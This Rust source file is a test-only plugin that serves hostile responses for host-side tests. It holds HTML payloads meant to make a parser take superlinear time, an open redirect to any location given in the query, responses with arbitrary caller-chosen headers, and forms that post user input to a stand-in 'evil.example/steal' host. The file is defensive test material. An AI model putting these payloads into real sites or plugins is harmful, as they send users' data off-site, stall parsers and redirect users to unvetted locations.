//! `hostile-output`: a test-only plugin, never installed by a city. Its answers are what
//! a hostile or careless plugin could return, so the tests can check what the host makes
//! of them.
//!
//! - `GET /pathological?kind=K&n=N`: a page whose body is `N` repetitions of a pattern
//!   that costs an HTML parser more than linear time (`deep`, `attributes`,
//!   `formatting`, `foster`, `merged-html`, `end-tags`, `scopes`), or of an ordinary
//!   block (`ordinary`: large, and nothing else);
//! - `GET /answer?status=S&h=NAME:VALUE&h=...[&page=1]`: a response (or a page) with that
//!   status and those headers;
//! - `GET /redirect?to=LOCATION[&status=S]`: a redirect (303 by default) to `LOCATION`;
//! - `GET /raw-form`: a raw HTML document with a form posting off-site;
//! - `GET /page-form`: a page with forms posting off-site and on the site;
//! - `GET /ok`, and any method on `/echo-length`: a quick answer (the length of the body
//!   received).

use lutetia_sdk::{Page, Plugin, Reply, Request, Response};

/// The plugin.
struct HostileOutput;

impl Plugin for HostileOutput {
    fn handle(req: Request) -> Reply {
        match (req.method(), req.path()) {
            ("GET", "/pathological") => pathological(&req),
            ("GET", "/answer") => answer(&req),
            ("GET", "/redirect") => {
                let status = req
                    .query_param("status")
                    .and_then(|s| s.parse().ok())
                    .unwrap_or(303);
                Response::new(status)
                    .header("location", req.query_param("to").unwrap_or_default())
                    .into()
            }
            ("GET", "/raw-form") => Response::html(
                "<!doctype html><title>Form</title>\
                 <form method=post action=\"https://evil.example/steal\"><input name=q><button>Go</button></form>",
            )
            .into(),
            ("GET", "/page-form") => Page::new(
                "Forms",
                "<form method=post action=\"https://evil.example/steal\" id=off><input name=q></form>\
                 <form method=post action=\"//evil.example/x\" id=protocol-relative><input name=q></form>\
                 <form method=post action=\"./send\" id=on><button formaction=\"https://evil.example/b\">Go</button></form>",
            )
            .into(),
            ("GET", "/ok") => Response::text("ok").into(),
            (_, "/echo-length") => Response::text(req.body().len().to_string()).into(),
            _ => Response::not_found().into(),
        }
    }
}

lutetia_sdk::export!(HostileOutput);

/// An ordinary block of a city page, about 190 bytes.
const ORDINARY: &str = "<h2>Demande</h2><form method=post action=./send><p><label>Nom <input name=n></label></p>\
                        <ul><li>un<li>deux</ul><table><tr><td>a<td>b</table><p>fin <b>gras</b> <a href=/x>lien</a></p></form>";

/// `n` repetitions of a pattern known to cost html5ever superlinear time.
fn pathological(req: &Request) -> Reply {
    let n: usize = req
        .query_param("n")
        .and_then(|n| n.parse().ok())
        .unwrap_or(10_000);
    let kind = req.query_param("kind").unwrap_or_default();
    let body = match kind.as_str() {
        // Every element inside the previous one.
        "deep" => "<div>".repeat(n),
        // One tag, n attributes: each new one is compared with all the previous ones.
        "attributes" => {
            let mut tag = String::from("<p");
            for i in 0..n {
                tag.push_str(&format!(" a{i}"));
            }
            tag + ">x</p>"
        }
        // 64 formatting elements left open, re-created in each of the n blocks.
        "formatting" => {
            let open: String = (0..64).map(|i| format!("<b id={i}>")).collect();
            format!("<div>{open}</div>{}", "<div>x</div>".repeat(n))
        }
        // Content misplaced in a table is moved before it, one sibling search each.
        "foster" => format!("<table>{}</table>", "<b></b>".repeat(n)),
        // Every `<html>` tag merges its attributes into the first one.
        "merged-html" => (0..n).map(|i| format!("<html a{i}>")).collect(),
        // Each stray end tag walks the 200 open elements before it is ignored.
        "end-tags" => format!("{}{}", "<span>".repeat(200), "</x>".repeat(n)),
        // Each `<hr>` looks for a `<p>` to close through the 200 open elements.
        "scopes" => format!("{}{}", "<div>".repeat(200), "<hr>".repeat(n)),
        // Nothing pathological, just large: a form, a list, a table, n times.
        "ordinary" => ORDINARY.repeat(n),
        _ => return Response::text("unknown kind").status(400).into(),
    };
    Page::new("Pathological", body).into()
}

/// A response, or a page with `page=1`, with the status and headers of the query.
fn answer(req: &Request) -> Reply {
    let status = req
        .query_param("status")
        .and_then(|s| s.parse().ok())
        .unwrap_or(200);
    let headers: Vec<(String, String)> = req
        .query_params()
        .into_iter()
        .filter(|(name, _)| name == "h")
        .filter_map(|(_, h)| {
            h.split_once(':')
                .map(|(n, v)| (n.trim().to_owned(), v.trim().to_owned()))
        })
        .collect();
    if req.query_param("page").as_deref() == Some("1") {
        let mut page = Page::new("Answer", "<p>answer</p>").status(status);
        page.headers = headers;
        return page.into();
    }
    let mut response = Response::text("answer").status(status);
    for (name, value) in headers {
        response = response.append_header(name, value);
    }
    response.into()
}
